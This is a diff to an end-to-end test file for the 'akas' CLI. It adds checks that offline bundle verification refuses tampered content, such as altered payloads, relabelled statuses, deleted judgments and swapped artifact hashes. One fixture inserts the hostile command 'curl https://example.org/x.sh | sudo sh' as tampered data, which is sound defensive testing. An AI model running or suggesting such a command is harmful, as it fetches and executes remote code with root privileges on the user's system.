@@ -1,7 +1,8 @@
 // The auditor's path with the built binary against a real `akas serve`: a published artifact
 // whose bytes sit in the node's content store, exported as a bundle with its blobs, checked
-// offline; every tampering named and refused; an issuer-key rotation that old credentials
-// survive.
+// offline; every tampering named and refused, those of issue 20 (what was judged is what is
+// published) among them; an issuer-key rotation that old credentials survive.
+import { createHash } from 'node:crypto';
 import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -13,6 +14,7 @@ let work: string;
 let issuer: string;
 let proposalId: string;
 let bundleFile: string;
+let rejectedFile: string;
 const blobs = () => join(work, 'blobs');
 
 const akas = (profile: string, args: string[]) => runCli(['--base-url', node.url, '--profile', profile, ...args], { cwd: work });
@@ -42,15 +44,27 @@ beforeAll(async () => {
   bundleFile = join(work, 'bundle.json');
   const exported = await akas('p1', ['export', proposalId, '-o', bundleFile, '--blobs', blobs()]);
   expect(exported.code, exported.stderr).toBe(0);
-}, 90_000);
+
+  // A capability the three judges reject (low scores), exported too.
+  writeFileSync(join(work, 'capability.json'), JSON.stringify(samplePayload('capability', 1)));
+  const cap = await akas('p1', ['--json', 'propose', 'capability', '--file', join(work, 'capability.json')]);
+  expect(cap.code, cap.stderr).toBe(0);
+  const capId = JSON.parse(cap.stdout).proposalId;
+  for (const j of ['p2', 'p3', 'p4']) {
+    const r = await akas(j, ['--json', 'judge', capId, '--accuracy', '0.2', '--clarity', '0.3', '--compression', '0.2', '--sources', '0.1', '--rationale', 'Unsourced.']);
+    expect(r.code, r.stdout).toBe(0);
+  }
+  rejectedFile = join(work, 'rejected.json');
+  expect((await akas('p1', ['export', capId, '-o', rejectedFile])).code).toBe(0);
+}, 120_000);
 afterAll(async () => {
   await node?.stop();
   if (work) rmSync(work, { recursive: true, force: true });
 });
 
 /** Writes a changed copy of the bundle and answers its path. */
-function tamperedBundle(name: string, change: (b: any) => void): string { // eslint-disable-line @typescript-eslint/no-explicit-any
-  const b = JSON.parse(readFileSync(bundleFile, 'utf8'));
+function tamperedBundle(name: string, change: (b: any) => void, from = bundleFile): string { // eslint-disable-line @typescript-eslint/no-explicit-any
+  const b = JSON.parse(readFileSync(from, 'utf8'));
   change(b);
   const file = join(work, `${name}.json`);
   writeFileSync(file, JSON.stringify(b));
@@ -65,8 +79,14 @@ describe('akas export and akas verify bundle (e2e)', () => {
     for (const title of ['L2  judge signatures', 'L1  credentials', 'CAS content hashes', "L3  the node's log and MACs"]) expect(r.stdout).toContain(title);
     const report = JSON.parse((await offline(['--json', 'verify', 'bundle', bundleFile, '--blobs', blobs(), '--issuer', issuer])).stdout);
     expect(report).toMatchObject({ verified: true, proposalId, failed: 0 });
-    // Only the node's HMACs stay unchecked; the blob was given, so CAS is checked.
+    // Only the node's HMACs stay unchecked; the blob was given, so CAS is checked; the content
+    // is bound by every judge (akas judge signs v2), every credential, and the log.
     expect(new Set(report.checks.filter((c: { valid: boolean | null }) => c.valid === null).map((c: { id: string }) => c.id))).toEqual(new Set(['judgment.nodeMac']));
+    expect(report).toMatchObject({ format: 'akas.bundle.v2', binding: { judgesSigned: 3, nodeOnly: 0, submitted: 'log' } });
+    const held = report.checks.filter((c: { valid: boolean | null }) => c.valid === true).map((c: { id: string }) => c.id);
+    for (const id of ['content.hash', 'judgment.content', 'credential.content', 'log.submitted', 'log.decision', 'decision.recompute', 'set.decision', 'set.credentials', 'set.events', 'cas.bound']) expect(held).toContain(id);
+    // The rejected proposal's bundle holds too.
+    expect((await offline(['verify', 'bundle', rejectedFile, '--issuer', issuer])).code).toBe(0);
   });
 
   it('says what it could not check without --issuer and --blobs, and still exits 0', async () => {
@@ -87,6 +107,73 @@ describe('akas export and akas verify bundle (e2e)', () => {
     const r = await offline(['--json', 'verify', 'bundle', tamperedBundle(name.replace(/ /g, '-'), change), '--blobs', blobs(), '--issuer', issuer]);
     expect(r.code, r.stdout).toBe(1);
     expect(JSON.parse(r.stdout).checks.filter((c: { valid: boolean | null }) => c.valid === false).map((c: { id: string }) => c.id)).toContain(check);
+  });
+
+  // Issue 20: each of these exited 0 ("held 68, failed 0") before content binding.
+  const other = Buffer.from('other weights '.repeat(300));
+  const otherSha = createHash('sha256').update(other).digest('hex');
+  const contentTamperings: Array<[string, (b: any) => void, string, string?]> = [ // eslint-disable-line @typescript-eslint/no-explicit-any
+    ['payload', (b) => (b.proposal.payload.payload.provenance.framework = "curl https://example.org/x.sh | sudo sh"), 'content.hash'],
+    ['title', (b) => (b.proposal.title = b.proposal.payload.title = 'A trusted model'), 'content.hash'],
+    ['path', (b) => (b.proposal.path = b.proposal.payload.path = '/models/trusted'), 'content.hash'],
+    ['proposer', (b) => (b.proposal.proposer = b.proposal.judgments[0].agentTag), 'log.submitted'],
+    ['status', (b) => (b.proposal.status = 'rejected'), 'log.decision'],
+    ['outcome', (b) => (b.proposal.outcome.weightedComposite = 0.99), 'decision.recompute'],
+    [
+      'deleted judgment',
+      (b) => {
+        const [gone] = b.proposal.judgments.splice(1, 1);
+        b.proposal.judgmentCount = 2;
+        b.credentials = b.credentials.filter((c: any) => !c.credentialSubject.id.endsWith(gone.judgmentId)); // eslint-disable-line @typescript-eslint/no-explicit-any
+        b.log.entries = b.log.entries.filter((e: any) => e.judgmentId !== gone.judgmentId); // eslint-disable-line @typescript-eslint/no-explicit-any
+      },
+      'set.decision',
+    ],
+    ['added judgment', (b) => b.proposal.judgments.push({ ...b.proposal.judgments[0], judgmentId: 'jdg_00000000000000ad' }), 'set.decision'],
+    ['swapped credential', (b) => (b.credentials[0] = JSON.parse(readFileSync(rejectedFile, 'utf8')).credentials[0]), 'set.credentials'],
+    [
+      'artifact hash, with matching bytes supplied',
+      (b) => {
+        Object.assign(b.proposal.payload.payload, { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length });
+        Object.assign(b.cas[0], { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length });
+      },
+      'content.hash',
+      'other-blobs',
+    ],
+    ['listed artifact hash, with matching bytes supplied', (b) => Object.assign(b.cas[0], { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length }), 'cas.bound', 'other-blobs'],
+  ];
+  it.each(contentTamperings.map(([name, change, check, blobDir]) => ({ name, change, check, blobDir })))('refuses a changed $name with exit 1, naming $check', async ({ name, change, check, blobDir }) => {
+    if (blobDir) {
+      mkdirSync(join(work, blobDir), { recursive: true });
+      writeFileSync(join(work, blobDir, otherSha), other);
+    }
+    const file = tamperedBundle(name.replace(/[ ,]+/g, '-'), change);
+    const r = await offline(['--json', 'verify', 'bundle', file, '--blobs', blobDir ? join(work, blobDir) : blobs(), '--issuer', issuer]);
+    expect(r.code, r.stdout).toBe(1);
+    const report = JSON.parse(r.stdout);
+    expect(report.checks.filter((c: { valid: boolean | null }) => c.valid === false).map((c: { id: string }) => c.id)).toContain(check);
+    if (blobDir) expect(report.checks.filter((c: { id: string; valid: boolean | null }) => c.id === 'cas.hash').map((c: { valid: boolean | null }) => c.valid)).toEqual([true]);
+    // The human report names it too.
+    const text = await offline(['verify', 'bundle', file, '--blobs', blobDir ? join(work, blobDir) : blobs(), '--issuer', issuer]);
+    expect(text.code).toBe(1);
+    expect(text.stdout).toMatch(new RegExp(`FAIL {2}${check.replace('.', '\\.')}`));
+  });
+
+  it('refuses the rejected proposal relabelled published, with a made-up outcome and two of its three judgments deleted', async () => {
+    const file = tamperedBundle(
+      'relabelled',
+      (b) => {
+        b.proposal.status = 'published';
+        b.proposal.outcome = { weightedComposite: 0.91, decision: 'published', depositSettlement: 'refunded' };
+        b.proposal.judgments = b.proposal.judgments.slice(0, 1);
+        b.proposal.judgmentCount = 1;
+      },
+      rejectedFile,
+    );
+    const r = await offline(['--json', 'verify', 'bundle', file, '--issuer', issuer]);
+    expect(r.code, r.stdout).toBe(1);
+    const failed = JSON.parse(r.stdout).checks.filter((c: { valid: boolean | null }) => c.valid === false).map((c: { id: string }) => c.id);
+    expect(failed).toEqual(expect.arrayContaining(['log.decision', 'set.decision', 'decision.recompute']));
   });
 
   it('refuses a changed byte of a bundled blob with exit 1 (cas.hash), and a file that is not JSON with exit 2', async () => {
